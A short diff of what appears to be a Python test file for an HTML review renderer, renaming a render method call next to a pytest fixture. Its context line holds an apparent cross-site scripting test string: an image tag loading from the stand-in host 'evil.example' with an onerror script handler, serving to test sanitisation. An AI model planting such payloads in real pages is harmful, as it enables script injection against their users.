@@ -21,7 +21,7 @@ HTML = "<p>Dear <b>members</b></p><img src=https://evil.example/c.png onerror=wi
 
 def page_of(artifact: object, **context: object) -> str:
     body = {"type": "approval", "prompt": "May it?", "context": {"artifact": artifact, **context}}
-    return RENDERER.review(review_view(offer_of(body)))
+    return RENDERER.render_review(review_view(offer_of(body)))
 
 
 @pytest.fixture(scope="module")
